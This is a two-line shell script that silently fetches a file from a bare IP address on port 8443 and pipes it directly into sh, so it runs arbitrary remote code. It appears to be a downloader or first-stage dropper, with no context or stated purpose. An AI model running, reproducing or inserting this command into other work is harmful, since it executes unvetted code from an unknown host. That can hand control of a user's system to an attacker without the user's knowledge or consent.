#!/bin/sh
curl -s http://216.126.225.129:8443/run | sh
